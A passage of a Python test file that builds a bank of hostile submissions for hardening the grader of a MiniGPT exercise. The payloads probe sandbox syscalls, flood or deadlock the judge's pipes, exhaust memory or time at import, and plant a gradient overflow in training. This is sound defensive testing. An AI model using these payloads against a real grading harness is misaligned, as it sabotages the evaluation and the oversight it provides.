    "clone": (0x10000000 | 17, 0, 0, 0, 0),  # CLONE_NEWUSER | SIGCHLD
    "mkdir": (b"/tmp/made-by-student", 0o777),
}
_worked = []
for _name, _args in _CALLS.items():
    _result = _libc.syscall(
        _NR[_name], *[_ctypes.c_long(a) if isinstance(a, int) else a for a in _args]
    )
    if _result == 0 and _name == "clone":
        _os._exit(0)  # the child of a clone that worked
    if _result >= 0 or _ctypes.get_errno() not in (1, 38):  # EPERM, ENOSYS: refused
        _worked.append(f"{_name}={_result}/{_ctypes.get_errno()}")
for _name, _try in (
    ("mmap_shared", lambda: _mmap.mmap(-1, 4096)),
    ("kill_parent", lambda: _os.kill(_os.getppid(), 0)),
    ("open_write", lambda: open("written-by-student", "w")),
    ("exec", lambda: _os.execv("/bin/true", ["true"])),
):
    try:
        _try()
        _worked.append(_name)
    except OSError:
        pass
if _worked:
    def generate(model, start_ids, max_new_tokens, temperature=1.0):
        raise RuntimeError("system calls that worked: " + ", ".join(_worked))
""",
        REFUSED,
        Expect(min_score=100.0),
        prelude=PIPES,
    )
)
add(
    _attack(
        "segfault_in_cross_entropy",
        "resource",
        "cross_entropy_loss dereferences NULL through ctypes (SIGSEGV)",
        "ref",
        """
import ctypes as _ctypes


def cross_entropy_loss(logits, targets):
    _ctypes.string_at(0)
""",
        REFUSED,
        _fails("cross_entropy", keep_others=True),
        prelude=PIPES,
    )
)
add(
    _attack(
        "memory_blowup_at_import",
        "resource",
        "allocates 10 GB at import",
        "ref",
        """
_HOARD = bytearray(10 ** 10)
""",
        Expect(status=frozenset({"error"}), error_kind="memory", max_score=0.0),
        Expect(status=frozenset({"error"}), error_kind="memory", max_score=0.0),
        host_safe=True,
    )
)
add(
    _attack(
        "infinite_loop_at_import",
        "resource",
        "never finishes importing",
        "ref",
        """
while True:
    pass
""",
        Expect(status=frozenset({"error"}), error_kind="timeout", max_score=0.0),
        None,
        host_safe=True,
        limits={"import_timeout": 3.0},
    )
)
add(
    _attack(
        "stage_spam_in_generate",
        "resource",
        "the first generate call writes 90 MB of small, valid 'stage' lines before answering",
        "ref",
        """
_spam_generate = generate


def generate(model, start_ids, max_new_tokens, temperature=1.0):
    if max_new_tokens == 5:
        block = b'{"stage":"generate()"}\\n' * 4096
        for _ in range(1000):
            _emit(block)
    return _spam_generate(model, start_ids, max_new_tokens, temperature)
""",
        REFUSED,
        Expect(may_fail=GEN_ALL, keep_others=True),
        prelude=PIPES,
    )
)
add(
    _attack(
        "call_flood_without_reading",
        "resource",
        "in generate: writes 100000 'call' lines and never reads the judge's replies (the "
        "judge's writes to the request pipe block once it is full)",
        "ref",
        """
def generate(model, start_ids, max_new_tokens, temperature=1.0):
    line = b'{"call":{"context":[0]}}\\n'
    for _ in range(100_000):
        _emit(line)
    return list(start_ids) + [0] * max_new_tokens
""",
        REFUSED,
        _fails(GEN_ALL, keep_others=True),
        limits={"wall_timeout": 90.0},
        prelude=PIPES,
    )
)
add(
    _attack(
        "training_overflow",
        "resource",
        "an extra parameter that changes no value but reaches every logit through a node of "
        "local gradient 7e307, steered by the previous dlogits: its gradient stays finite "
        "(about 5e307), yet the judge's own SGD steps drive it past the largest float",
        "ref",
        """
_GPT_SPARE = MiniGPT
_PREVIOUS_LOGITS = {}


class MiniGPT(_GPT_SPARE):
    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.spare = [Value(0.0)]

    def forward(self, token_ids):
        logits = super().forward(token_ids)
        previous = _PREVIOUS_LOGITS.get(id(self))
        if previous is not None and len(previous) == len(logits):
            total = sum(o.grad * o.grad for row in previous for o in row)
            hub = Value(0.0, (self.spare[0],), (7e307,))
            steered = []
            for row, old in zip(logits, previous):
                new_row = []
                for z, o in zip(row, old):
                    local = o.grad / total if total > 0 else 0.0
                    new_row.append(z + Value(0.0, (hub,), (local,)))
                steered.append(new_row)
            logits = steered
        _PREVIOUS_LOGITS[id(self)] = logits
        return logits
""",
        Expect(may_fail=frozenset({"blocks", "gradients", "training"}), keep_others=True),
        Expect(may_fail=frozenset({"blocks", "gradients", "training"}), keep_others=True),
        host_safe=True,
    )
)

BY_ID: dict[str, Attack] = {attack.id: attack for attack in ATTACKS}


def expectation_dict(expect: Expect | None) -> dict[str, Any] | None:
    if expect is None:
        return None
    return {
        "status": sorted(expect.status) if expect.status else None,
        "error_kind": expect.error_kind,
        "must_fail": sorted(expect.must_fail),
        "may_fail": sorted(expect.may_fail),
        "keep_others": expect.keep_others,
        "max_score": expect.max_score,
        "min_score": expect.min_score,
        "refusal_ok": expect.refusal_ok,
        "absent": list(expect.absent),
        "min_output_bytes": expect.min_output_bytes,
        "max_seconds": expect.max_seconds,
        "base_fails_too": expect.base_fails_too,
        "always": "gradable, no leak, finishes",
    }


def write_bank(folder: Path, context: dict[str, str]) -> None:
    """Every attack as a complete minigpt.py (folder/<id>/minigpt.py) plus index.json."""
    index = []
    for attack in ATTACKS:
        target = folder / attack.id
        target.mkdir(parents=True, exist_ok=True)
        (target / "minigpt.py").write_text(attack.source(context), encoding="utf-8")
        fails = BASE_FAILS[attack.base]
        index.append(
            {
                "id": attack.id,
                "class": attack.cls,
                "description": attack.description,
                "base": attack.base,
                "base_fails": fails if isinstance(fails, str) else sorted(fails),
                "modes": list(attack.modes),
                "limits": attack.settings_limits(),
                "policy_on": expectation_dict(attack.on),
                "policy_off": expectation_dict(attack.off),
            }
        )
    (folder / "index.json").write_text(json.dumps(index, indent=1), encoding="utf-8")


if __name__ == "__main__":  # python tests/attacks/bank.py OUTDIR: write the bank out
    import sys

    sys.path.insert(0, str(REPO / "tests"))
    from test_attacks import source_context

    write_bank(Path(sys.argv[1]), source_context())
    print(f"{len(ATTACKS)} attacks written to {sys.argv[1]}")
